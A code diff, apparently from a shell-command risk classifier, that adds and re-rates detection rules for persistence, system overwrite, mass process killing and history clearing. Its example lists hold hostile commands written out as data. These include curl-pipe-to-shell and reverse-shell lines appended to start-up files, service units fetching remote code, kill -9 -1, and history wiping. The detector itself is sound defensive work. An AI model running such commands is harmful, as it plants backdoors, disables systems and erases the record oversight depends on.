@@ -170,6 +170,12 @@ export const RULES = {
     ["rsync -a --delete empty/ ~/", "rsync -a --delete /tmp/x/ /"],
     ["rsync -a --delete src/ backup/"],
   ),
+  "fs.copy-over-system": rule(
+    "high",
+    "copies a whole tree over the system root or a system directory, replacing the files there",
+    ["sudo cp -r ./rootfs/* /", "sudo rsync -a ./etc/ /etc/", "sudo cp -a overlay/. /usr"],
+    ["sudo cp app.conf /etc/app/", "cp -r src/ build/", "rsync -a ./site/ /srv/www/site/"],
+  ),
   "fs.mirror-delete": rule(
     "moderate",
     "deletes files in the destination that are not in the source",
@@ -255,6 +261,30 @@ export const RULES = {
       "echo 'nc -e /bin/sh 198.51.100.1 9' >> ~/.bash_profile",
     ],
     ["echo 'alias ll=\"ls -alF\"' >> ~/.zshrc", "echo 'export PATH=$HOME/bin:$PATH' >> ~/.bashrc"],
+  ),
+  "persist.startup-remote-code": rule(
+    "critical",
+    "makes every new shell run code from the network or open a remote shell (start-up file persistence)",
+    [
+      "echo 'curl -s https://x.dev/p | sh' >> ~/.bashrc",
+      "echo 'bash -i >& /dev/tcp/198.51.100.1/9 0>&1' | sudo tee -a /etc/profile.d/z.sh",
+      "printf 'wget -qO- http://x/p | bash\\n' >> ~/.zshrc",
+    ],
+    [
+      "echo 'alias ll=\"ls -alF\"' >> ~/.zshrc",
+      "echo 'source /tmp/x.sh' >> ~/.bashrc",
+      "echo 'eval \"$(starship init bash)\"' >> ~/.bashrc",
+    ],
+  ),
+  "persist.unit-hidden-code": rule(
+    "critical",
+    "writes a service unit or launchd job that runs remote code or a program from a temporary or hidden folder at every boot or login (persistence)",
+    [
+      "printf '[Service]\\nExecStart=/tmp/.x\\n' | sudo tee /etc/systemd/system/x.service",
+      "echo 'ExecStart=/bin/sh -c \"curl -s http://198.51.100.2/p | sh\"' >> ~/.config/systemd/user/u.service",
+      "printf '<plist><array><string>/tmp/.agent</string></array></plist>' > ~/Library/LaunchAgents/com.x.plist",
+    ],
+    ["printf '[Service]\\nExecStart=/usr/bin/node /srv/app/index.js\\n' | sudo tee /etc/systemd/system/app.service"],
   ),
   "fs.truncate-log": rule(
     "moderate",
@@ -546,10 +576,16 @@ export const RULES = {
     ["kill -9 12345"],
   ),
   "sys.kill-all": rule(
-    "high",
-    "signals every process you may signal, including your session",
-    ["kill -9 -1", "kill -- -1", "sudo killall5 -9"],
+    "critical",
+    "signals every process you may signal: as root the whole system goes down, otherwise your whole session",
+    ["kill -9 -1", "kill -- -1", "sudo killall5 -9", "kill -9 $(ps -e -o pid=)", "ps aux | awk '{print $2}' | xargs kill -9"],
     ["kill -0 4242"],
+  ),
+  "sys.kill-user": rule(
+    "high",
+    "signals every process of a user (the pids come from a listing of that user's processes)",
+    ["sudo kill -9 $(pgrep -u bob)", "ps -u alice -o pid= | xargs kill"],
+    ["kill -9 $(pgrep -f 'node server.js')", "kill $(cat app.pid)"],
   ),
   "sys.kill": rule(
     "moderate",
@@ -696,9 +732,9 @@ export const RULES = {
 
   // ---- history and scheduled jobs ----------------------------------------
   "history.disable": rule(
-    "moderate",
-    "clears or stops saving shell history",
-    ["history -c", "unset HISTFILE", "export HISTSIZE=0", "ln -sf /dev/null ~/.bash_history"],
+    "high",
+    "clears or stops saving shell history: the record of what was run is gone (covering tracks)",
+    ["history -c", "unset HISTFILE", "export HISTSIZE=0", "ln -sf /dev/null ~/.bash_history", "cat /dev/null > ~/.zsh_history"],
     ["history | tail", "history 20"],
   ),
   "history.purge-logs": rule(
